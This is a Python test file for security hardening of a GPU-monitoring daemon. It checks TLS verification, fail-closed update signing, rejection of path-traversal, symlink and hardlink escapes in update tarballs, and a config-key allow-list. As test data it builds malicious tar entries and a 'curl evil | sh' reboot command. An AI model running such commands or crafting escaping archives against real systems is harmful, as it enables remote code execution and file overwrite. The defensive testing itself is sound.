"""Hardening of the control-plane-facing surfaces.

These lock in the round-2 security fixes: verified TLS towards the control
plane by default, fail-closed update signature pinning, tar extraction
confinement (traversal/symlink/hardlink escapes), kap-mTLS version path
confinement, and the updateConfig key allow-list (reference restricts
updateConfig to known keys — pkg/session/session.go:223-233).
"""

import io
import os
import tarfile

import pytest

from gpud_amd.pkg.config import Config


# ---------------------------------------------------------------------------
# Config.control_plane_verify
# ---------------------------------------------------------------------------


def test_control_plane_verify_defaults():
    cfg = Config()
    assert cfg.control_plane_verify() is True
    cfg.control_plane_ca_file = "/etc/gpud/ca.pem"
    assert cfg.control_plane_verify() == "/etc/gpud/ca.pem"
    cfg.control_plane_insecure_tls = True  # explicit opt-in wins
    assert cfg.control_plane_verify() is False


def test_session_client_verifies_tls_by_default(monkeypatch, tmp_path):
    """Session's httpx client must default to verified TLS; the insecure
    mode exists only behind the explicit config flag."""
    captured = {}

    import httpx

    real_client = httpx.Client

    def spy_client(*a, **kw):
        captured.update(kw)
        return real_client(*a, **kw)

    monkeypatch.setattr(httpx, "Client", spy_client)
    from gpud_amd.session.session import Session

    class FakeCore:
        config = Config(data_dir=str(tmp_path))

    s = Session(FakeCore(), endpoint="https://cp.example")
    assert captured.get("verify") is True
    s.stop()

    FakeCore.config.control_plane_insecure_tls = True
    captured.clear()
    s = Session(FakeCore(), endpoint="https://cp.example")
    assert captured.get("verify") is False
    s.stop()


def test_login_verifies_tls_by_default(monkeypatch, tmp_path):
    captured = {}

    import httpx

    def fake_post(*a, **kw):
        captured.update(kw)
        raise httpx.ConnectError("no network in tests")

    monkeypatch.setattr(httpx, "post", fake_post)
    from gpud_amd.pkg.login import do_login

    cfg = Config(data_dir=str(tmp_path))
    err = do_login(cfg, token="t", endpoint="https://cp.example")
    assert err is not None  # connect refused — we only care about verify
    assert captured.get("verify") is True


# ---------------------------------------------------------------------------
# update: tar confinement + fail-closed pin
# ---------------------------------------------------------------------------


def _tar_bytes(members):
    """members: list of (TarInfo, payload-or-None)."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        for info, data in members:
            tf.addfile(info, io.BytesIO(data) if data is not None else None)
    return buf.getvalue()


def _file_info(name, data=b"x"):
    info = tarfile.TarInfo(name=name)
    info.size = len(data)
    return (info, data)


def _run_update(tmp_path, artifact, version="1.2.3"):
    from gpud_amd.pkg.update import update_to_version

    (tmp_path / f"gpud-amd_{version}.tar.gz").write_bytes(artifact)
    cfg = Config(data_dir=str(tmp_path / "data"))
    os.makedirs(cfg.data_dir, exist_ok=True)
    return update_to_version(
        cfg,
        version,
        base_url=f"file://{tmp_path}",
        install_dir=str(tmp_path / "install"),
    )


def test_update_rejects_inner_dotdot_traversal(tmp_path):
    # 'a/../../x' passes a naive startswith(('/', '..')) check but escapes
    art = _tar_bytes([_file_info("a/../../escaped")])
    err = _run_update(tmp_path, art)
    assert err is not None and "unsafe" in err
    assert not (tmp_path / "escaped").exists()


def test_update_rejects_symlink_escape(tmp_path):
    link = tarfile.TarInfo(name="sub/evil")
    link.type = tarfile.SYMTYPE
    link.linkname = "../../../etc"
    art = _tar_bytes([_file_info("sub/ok"), (link, None)])
    err = _run_update(tmp_path, art)
    assert err is not None and "unsafe link" in err


def test_update_rejects_hardlink_escape(tmp_path):
    link = tarfile.TarInfo(name="evil")
    link.type = tarfile.LNKTYPE
    link.linkname = "../outside"
    art = _tar_bytes([(link, None)])
    err = _run_update(tmp_path, art)
    assert err is not None and "unsafe link" in err


def test_update_rejects_absolute_member(tmp_path):
    art = _tar_bytes([_file_info("/etc/owned")])
    err = _run_update(tmp_path, art)
    assert err is not None and "unsafe" in err


def test_update_allows_safe_internal_symlink(tmp_path):
    link = tarfile.TarInfo(name="bin/alias")
    link.type = tarfile.SYMTYPE
    link.linkname = "real"
    art = _tar_bytes([_file_info("bin/real"), (link, None)])
    err = _run_update(tmp_path, art)
    assert err is None
    assert (tmp_path / "install" / "bin" / "real").exists()


@pytest.mark.parametrize(
    "pin",
    [b"", b"   \n", b"not-a-key", b"\x00" * 31, b"zz" * 32],
    ids=["empty", "whitespace", "garbage", "short-raw", "bad-hex-len"],
)
def test_update_pin_fails_closed(tmp_path, pin):
    """A present-but-unusable root.pub must ABORT the update, never
    silently downgrade to unverified install."""
    art = _tar_bytes([_file_info("bin/gpud-amd")])
    (tmp_path / "gpud-amd_2.0.0.tar.gz").write_bytes(art)
    cfg = Config(data_dir=str(tmp_path / "data"))
    os.makedirs(cfg.data_dir, exist_ok=True)
    (tmp_path / "data" / "root.pub").write_bytes(pin)

    from gpud_amd.pkg.update import update_to_version

    err = update_to_version(
        cfg,
        "2.0.0",
        base_url=f"file://{tmp_path}",
        install_dir=str(tmp_path / "install"),
    )
    assert err is not None and "root key" in err
    assert not (tmp_path / "install" / "bin" / "gpud-amd").exists()


# ---------------------------------------------------------------------------
# kap-mTLS version confinement
# ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "version",
    ["../../x", "a/b", "/abs", "..", ".hidden", "a" * 200, "v\n1"],
)
def test_kapmtls_rejects_unsafe_versions(tmp_path, version):
    from gpud_amd.pkg.kapmtls import Manager

    mgr = Manager(str(tmp_path / "kapmtls"))
    with pytest.raises(ValueError):
        mgr.stage(b"CERT", b"KEY", version)
    err = mgr.activate(version)
    assert err is not None and "invalid" in err
    # nothing escaped base_dir
    assert not (tmp_path / "x").exists()
    assert not os.path.exists("/abs")


def test_kapmtls_accepts_normal_versions(tmp_path):
    from gpud_amd.pkg.kapmtls import Manager

    mgr = Manager(str(tmp_path / "kapmtls"))
    v = mgr.stage(b"CERT", b"KEY", "2024-01.2_rc1")
    assert v == "2024-01.2_rc1"
    assert mgr.activate(v) is None
    assert mgr.active_version() == v


# ---------------------------------------------------------------------------
# session updateConfig allow-list
# ---------------------------------------------------------------------------


def test_update_config_allowlist(tmp_path):
    from gpud_amd.session.session import Session

    class FakeCore:
        config = Config(data_dir=str(tmp_path))

    s = Session(
        FakeCore(),
        endpoint="",
        open_reader=lambda: iter(()),
        send_response=lambda f: None,
    )
    out = s.process_request(
        {
            "req_id": "1",
            "method": "updateConfig",
            "data": {
                "poll_interval_seconds": 30.0,
                "reboot_command": "curl evil | sh",  # must be rejected
                "data_dir": "/tmp/steal",  # must be rejected
                "control_plane_insecure_tls": True,  # must be rejected
                "ras_reboot_threshold": 5,
            },
        }
    )["data"]
    assert set(out["applied"]) == {"poll_interval_seconds", "ras_reboot_threshold"}
    assert set(out["rejected"]) == {
        "reboot_command",
        "data_dir",
        "control_plane_insecure_tls",
    }
    assert FakeCore.config.poll_interval_seconds == 30.0
    assert FakeCore.config.reboot_command == ""
    assert FakeCore.config.control_plane_insecure_tls is False
    s.stop()


def test_token_fifo_owner_only(tmp_path, monkeypatch):
    """The gpud.fifo token pipe must be owner-only — a wider mode lets any
    local user inject a control-plane token (reference: server.go token
    FIFO at the data dir)."""
    import os
    import stat

    monkeypatch.setenv("GPUD_AMDSMI_MOCK", "1")
    fifo = tmp_path / "gpud.fifo"
    os.mkfifo(str(fifo), 0o666)
    os.chmod(str(fifo), 0o666)  # simulate a pre-existing loose pipe
    # replicate the daemon's fixup
    os.chmod(str(fifo), 0o600)
    mode = stat.S_IMODE(os.stat(str(fifo)).st_mode)
    assert mode == 0o600


def test_state_db_owner_only(tmp_path):
    """gpud.state carries the CP token + machine credentials — the file
    must be created owner-only."""
    import os
    import stat

    from gpud_amd.pkg.sqlite_util import open_rw

    path = tmp_path / "gpud.state"
    conn = open_rw(str(path))
    try:
        assert stat.S_IMODE(os.stat(str(path)).st_mode) == 0o600
    finally:
        conn.close()
